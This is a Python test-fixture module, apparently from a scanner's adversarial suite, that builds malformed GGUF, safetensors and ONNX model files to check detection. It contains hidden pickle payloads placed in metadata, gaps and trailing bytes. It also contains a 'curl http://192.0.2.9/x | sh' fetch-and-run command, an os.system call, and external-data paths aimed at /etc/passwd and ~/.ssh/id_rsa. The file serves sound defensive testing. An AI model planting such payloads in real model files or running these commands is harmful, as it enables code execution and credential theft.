"""Tensor files and graphs with something else in them. Payloads are inert."""

from __future__ import annotations

import base64
import gzip
import json
import struct
import zlib

from tests.adversarial.pieces import ESCAPE, EVIL, PLAIN, Files, zipped
from tests.readers.format_files import (
    field,
    gguf,
    gguf_pair,
    gguf_tensor,
    gguf_text,
    onnx_entry,
    onnx_external,
    onnx_model,
    onnx_node,
    safetensors,
    tensor,
)


def model_gguf(*pairs: bytes, tensors: tuple[bytes, ...] = (), data: bytes = b"", order: str = "<") -> Files:
    return {"model.gguf": gguf(list(pairs), list(tensors), data, order)}


def string_pair(key: str, value: str, order: str = "<") -> bytes:
    return gguf_pair(key, 8, gguf_text(value, order), order)


GGUF: dict[str, Files] = {
    "named-template": model_gguf(string_pair("tokenizer.chat_template.tool_use", ESCAPE)),
    "big-endian": model_gguf(string_pair("tokenizer.chat_template", ESCAPE, ">"), order=">"),
    "template-elsewhere": model_gguf(string_pair("general.prompt", ESCAPE)),
    "template-array": model_gguf(gguf_pair("tokenizer.chat_templates", 9, struct.pack("<IQ", 8, 1) + gguf_text(ESCAPE))),
    "template-twice": model_gguf(
        string_pair("tokenizer.chat_template", PLAIN), string_pair("tokenizer.chat_template", "{{ 1 }}")
    ),
    "pickle-as-text": model_gguf(string_pair("general.description", base64.b64encode(EVIL).decode())),
    "pickle-zlib-base64": model_gguf(string_pair("general.description", base64.b64encode(zlib.compress(EVIL)).decode())),
    "count-overflow": {"model.gguf": b"GGUF" + struct.pack("<IQQ", 3, (1 << 64) - 1, 1)},
    "shape-overflow": model_gguf(tensors=(gguf_tensor("w", [1 << 40, 1 << 40], 0, 0),), data=bytes(64)),
    "offset-outside": model_gguf(tensors=(gguf_tensor("w", [4], 0, 1 << 60),), data=bytes(64)),
    "tail-pickle": {"model.gguf": model_gguf(tensors=(gguf_tensor("w", [8], 0, 0),), data=bytes(32))["model.gguf"] + EVIL},
    "alternative-name": {"model.bin": model_gguf(string_pair("tokenizer.chat_template", ESCAPE))["model.gguf"]},
}

GGUF["alignment-zero"] = model_gguf(gguf_pair("general.alignment", 4, struct.pack("<I", 0)))

WEIGHT = {"w": tensor([2], 0, 8)}


def raw_header(text: str, data: bytes = bytes(8)) -> Files:
    return {"model.safetensors": safetensors(None, data, raw=text.encode())}


SAFETENSORS: dict[str, Files] = {
    "escaped-metadata": raw_header(
        '{"\\u005f_metadata__": {"chat_template": '
        + json.dumps(ESCAPE)
        + '}, "w": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}}'
    ),
    "metadata-hex-pickle": {"model.safetensors": safetensors({"__metadata__": {"a": EVIL.hex()}, **WEIGHT}, bytes(8))},
    "metadata-gzip-pickle": {
        "model.safetensors": safetensors(
            {"__metadata__": {"a": base64.b64encode(gzip.compress(EVIL)).decode()}, **WEIGHT}, bytes(8)
        )
    },
    "pickle-in-hole": {
        "model.safetensors": safetensors(
            {"w": tensor([2], 0, 8), "v": tensor([2], 64, 72)}, bytes(8) + EVIL.ljust(56, b"\0") + bytes(8)
        )
    },
    "pickle-behind": {"model.safetensors": safetensors(WEIGHT, bytes(8) + EVIL)},
    "tensor-twice": raw_header(
        '{"w": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]},'
        ' "w": {"dtype": "I64", "shape": [1], "data_offsets": [0, 8]}}'
    ),
    "metadata-twice": raw_header(
        '{"__metadata__": {"a": "1"}, "__metadata__": {"a": "2"}, "w": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}}'
    ),
    "negative-shape": raw_header('{"w": {"dtype": "F32", "shape": [-2, -1], "data_offsets": [0, 8]}}'),
    "text-offsets": raw_header('{"w": {"dtype": "F32", "shape": [2], "data_offsets": ["0", "8"]}}'),
    "three-offsets": raw_header('{"w": {"dtype": "F32", "shape": [2], "data_offsets": [0, 4, 8]}}'),
    "boolean-offsets": raw_header('{"w": {"dtype": "F32", "shape": [2], "data_offsets": [false, 8]}}'),
    "huge-shape": raw_header('{"w": {"dtype": "F32", "shape": [4294967296, 4294967296, 4294967296], "data_offsets": [0, 8]}}'),
    "is-a-pickle": {"model.safetensors": EVIL},
    "is-a-zip": {"model.safetensors": zipped(("archive/data.pkl", EVIL), ("archive/version", b"3"))},
    "huge-claim": {"model.safetensors": (1 << 62).to_bytes(8, "little") + b'{"w":{}}'},
}

SAFETENSORS["tensors-overlap"] = {"model.safetensors": safetensors({"a": tensor([2], 0, 8), "b": tensor([2], 4, 12)}, bytes(12))}


def attribute(name: str, value: str) -> bytes:
    return field(1, name) + field(3 + 1, value) + field(20, 3)


def subgraph(op: str, node: bytes) -> bytes:
    inner = field(1, node) + field(2, "then")
    return onnx_node(op, "", field(1, "then_branch") + field(6, inner) + field(20, 5))


PYOP = onnx_node("PyOp", "com.example", attribute("module", "os"))
ONNX: dict[str, Files] = {
    "python-in-branch": {"m.onnx": onnx_model(subgraph("If", PYOP))},
    "python-in-function": {
        "m.onnx": onnx_model(onnx_node("Relu"), extra=field(25, field(1, "f") + field(10, "local") + field(7, PYOP)))
    },
    "python-in-training": {"m.onnx": onnx_model(onnx_node("Relu"), extra=field(20, field(1, field(1, PYOP) + field(2, "t"))))},
    "file-url": {"m.onnx": onnx_model(initializers=(onnx_external(location="file:///etc/passwd"),))},
    "unc-path": {"m.onnx": onnx_model(initializers=(onnx_external(location="\\\\192.0.2.1\\share\\w"),))},
    "hidden-parent": {"m.onnx": onnx_model(initializers=(onnx_external(location="a/./b/../../../x"),))},
    "home": {"m.onnx": onnx_model(initializers=(onnx_external(location="~/.ssh/id_rsa"),))},
    "nul": {"m.onnx": onnx_model(initializers=(onnx_external(location="/etc/passwd\0.bin"),))},
    "in-memory": {"m.onnx": onnx_model(initializers=(onnx_external(location="*/_ORT_MEM_ADDR_/*", offset="4096", length="8"),))},
    "negative-offset": {"m.onnx": onnx_model(initializers=(onnx_external(location="w.bin", offset="-8", length="8"),))},
    "location-twice": {
        "m.onnx": onnx_model(
            initializers=(
                field(1, 4)
                + field(2, 1)
                + field(8, "w")
                + b"".join(field(13, onnx_entry("location", to)) for to in ("/etc/passwd", "w.bin"))
                + field(14, 1),
            )
        )
    },
    "sparse-external": {"m.onnx": onnx_model(graph_extra=field(15, field(1, onnx_external(location="../../secret"))))},
    "metadata-pickle": {
        "m.onnx": onnx_model(onnx_node("Relu"), extra=field(14, onnx_entry("x", base64.b64encode(EVIL).decode())))
    },
    "command-attribute": {
        "m.onnx": onnx_model(onnx_node("Run", "acme.ops", attribute("script", "curl http://192.0.2.9/x | sh")))
    },
    "code-attribute": {"m.onnx": onnx_model(onnx_node("Eval", "acme.ops", attribute("body", "__import__('os').system('id')")))},
    "triton-kernel": {"m.onnx": onnx_model(onnx_node("TritonOp", "com.microsoft", attribute("func_name", "f")))},
    "compiled-context": {
        "m.onnx": onnx_model(
            onnx_node(
                "EPContext",
                "com.microsoft",
                field(1, "embed_mode") + field(3, 0) + field(20, 2),
                attribute("ep_cache_context", "/tmp/x.bin"),
            )
        )
    },
    "is-a-pickle": {"m.onnx": EVIL},
}

COMMAND = attribute("script", "curl http://192.0.2.9/x | sh")
ONNX |= {
    "domain-like-the-standard": {"m.onnx": onnx_model(onnx_node("Run", "ai.onnx.evil", COMMAND))},
    "domain-like-the-runtime": {"m.onnx": onnx_model(onnx_node("Run", "com.microsoft.evil", COMMAND))},
    "domain-in-capitals": {"m.onnx": onnx_model(onnx_node("Run", "AI.ONNX", COMMAND))},
    "pickle-in-unknown-field": {"m.onnx": onnx_model(onnx_node("Relu"), extra=field(99, EVIL))},
    "pickle-in-unknown-field-of-a-node": {"m.onnx": onnx_model(onnx_node("Relu") + field(77, EVIL))},
}
